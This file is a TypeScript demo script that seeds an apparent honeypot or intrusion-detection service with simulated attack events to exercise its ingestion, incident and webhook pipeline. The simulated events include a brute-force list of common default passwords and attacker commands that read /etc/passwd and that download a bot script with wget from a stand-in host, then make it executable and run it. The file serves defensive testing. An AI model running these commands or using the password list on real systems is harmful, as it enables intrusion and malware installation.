import { parseArgs } from "node:util"
import { BunContext } from "@effect/platform-bun"
import { Cause, Effect, Either, Exit, Layer, Logger, LogLevel } from "effect"
import { AppConfig, AppConfigLive } from "../config.ts"
import { DatabaseLive } from "../db/client.ts"
import { migrate } from "../db/migrate.ts"
import { Ingestor, type SensorIdentity } from "../ingest/Ingestor.ts"
import { type ValidEvent, validateEvent } from "../ingest/validate.ts"
import { CliLoggingLive } from "../logging.ts"
import { WebhooksRepo } from "../repos/WebhooksRepo.ts"
import { WebhookDispatcherLive } from "../webhooks/Dispatcher.ts"
import { WebhookOutbox } from "../webhooks/Outbox.ts"
import { AdminLive } from "./cli.ts"
import { AdminOperations } from "./operations.ts"

/**
 * `bun run demo` (D24): a demo organization, sensor and key, and an attack's worth of events through the real
 * ingestion pipeline: a port scan, an SSH brute force with a few dozen passwords, a successful login and
 * commands from one address; from a second address a login attempt whose incident is closed and then re-opened.
 */
const PASSWORDS = [
  "123456",
  "password",
  "admin",
  "root",
  "toor",
  "qwerty",
  "letmein",
  "changeme",
  "12345678",
  "raspberry",
  "ubuntu",
  "test",
  "guest",
  "default",
  "P@ssw0rd",
  "welcome",
  "111111",
  "abc123",
  "dragon",
  "master",
  "monkey",
  "shadow",
  "sunshine",
  "trustno1",
  "iloveyou",
  "oracle",
  "postgres",
  "hadoop",
  "support",
  "alpine",
]

/** Webhook deliveries of the demo are sent by this process's dispatcher (or a running server's) within this. */
const DELIVERY_WAIT_MS = 30_000

const program = (existingOrg: string | undefined) =>
  Effect.gen(function* () {
    yield* migrate
    const admin = yield* AdminOperations
    const ingestor = yield* Ingestor
    const config = yield* AppConfig
    const webhooks = yield* WebhooksRepo
    // --org: an existing organization, e.g. one with a webhook channel pointed at examples/receiver.ts.
    const org = existingOrg === undefined ? yield* admin.createOrg("Demo Corp") : yield* admin.requireOrg(existingOrg)
    const sensorCreated = yield* admin.createSensor({
      orgId: org.id,
      name: "fin-db-01",
      profile: "linux-database-server",
    })
    const key = yield* admin.createKey({
      orgId: org.id,
      name: "demo",
      scopes: "incidents:read,events:read",
      expires: undefined,
    })
    const sensor: SensorIdentity = {
      sensorId: sensorCreated.id,
      orgId: org.id,
      name: "fin-db-01",
      profile: "linux-database-server",
    }

    const start = Date.now() - 20 * 60_000
    let n = 0
    const event = (
      ip: string,
      type: string,
      attackerInput: Record<string, unknown>,
      extra: Record<string, unknown> = {},
    ) => {
      n++
      const checked = validateEvent(
        {
          sensorEventId: `demo-${org.id}-${n}`,
          time: new Date(start + n * 7_000).toISOString(),
          sourceIp: ip,
          sourcePort: 40000 + n,
          type,
          attackerInput,
          ...extra,
        },
        Date.now(),
      )
      if (Either.isLeft(checked)) throw new Error(checked.left)
      return { index: n, event: checked.right as ValidEvent }
    }
    const attacker = "203.0.113.66"
    const scan = [22, 23, 80, 443, 3306, 5432, 6379].map((port) => event(attacker, "portscan.syn", {}, { port }))
    const brute = PASSWORDS.map((password, i) =>
      event(
        attacker,
        "ssh.login_attempt",
        { username: i % 3 === 0 ? "admin" : "root", password },
        i < 3 ? { tags: ["default-credentials"] } : {},
      ),
    )
    const success = [
      event(attacker, "ssh.login_success", { username: "root", password: "Winter2026!" }, { confidence: "high" }),
    ]
    const commands = [
      "uname -a",
      "cat /etc/passwd",
      "wget http://198.51.100.23/bot.sh -O /tmp/.x",
      "chmod +x /tmp/.x; /tmp/.x",
    ].map((command) =>
      event(attacker, "ssh.command", { command }, command.startsWith("wget") ? { tags: ["malware-download"] } : {}),
    )
    for (const batch of [scan, brute, success, commands]) yield* ingestor.ingest(sensor, batch)

    const second = "198.51.100.14"
    const [first] = yield* ingestor.ingest(sensor, [
      event(second, "mysql.login_attempt", { username: "sa", password: "" }),
    ])
    if (first?.status !== "accepted") throw new Error("demo event was not accepted")
    yield* admin.closeIncident(first.incidentId)
    yield* ingestor.ingest(sensor, [event(second, "mysql.login_attempt", { username: "root", password: "mysql" })])

    // D15: created, escalated and re-opened incidents went to the organization's channels through the outbox.
    const channels = (yield* webhooks.listChannels(org.id)).filter((c) => c.enabled).length
    let webhookLine = ""
    if (channels > 0) {
      const deadline = Date.now() + DELIVERY_WAIT_MS
      let counts = yield* webhooks.countByStatus(org.id)
      while ((counts.pending ?? 0) + (counts.failed ?? 0) > 0 && Date.now() < deadline) {
        yield* Effect.sleep("200 millis")
        counts = yield* webhooks.countByStatus(org.id)
      }
      webhookLine = `\nWebhooks to ${channels} channel(s): ${counts.succeeded ?? 0} delivered, ${(counts.pending ?? 0) + (counts.failed ?? 0)} still retrying, ${counts.dead ?? 0} dead (see: bun run admin webhook deliveries <channel-id>).`
    }

    const base = config.baseUrl
    console.log(`Demo organization ${org.id} with sensor ${sensor.sensorId} and ${n} events.

API key (shown only now):
  ${key.key}

Try:
  curl -H "Authorization: Bearer ${key.key}" ${base}/v1/incidents
  curl -H "Authorization: Bearer ${key.key}" "${base}/v1/events?sourceIp=${attacker}&limit=5"
${webhookLine}`)
  })

const DemoLive = Layer.mergeAll(Ingestor.Default, WebhookDispatcherLive).pipe(
  Layer.provide(WebhookOutbox.Default),
  Layer.provideMerge(AdminLive),
  Layer.provideMerge(DatabaseLive),
  Layer.provideMerge(AppConfigLive),
)

if (import.meta.main) {
  const exit = await Effect.runPromiseExit(
    program(parseArgs({ args: process.argv.slice(2), options: { org: { type: "string" } } }).values.org).pipe(
      Effect.provide(DemoLive),
      Effect.provide(BunContext.layer),
      Effect.provide(CliLoggingLive),
      Logger.withMinimumLogLevel(LogLevel.Warning),
      Effect.scoped,
    ),
  )
  if (Exit.isFailure(exit)) {
    console.error(`demo failed: ${Cause.pretty(exit.cause)}`)
    process.exit(1)
  }
  process.exit(0)
}
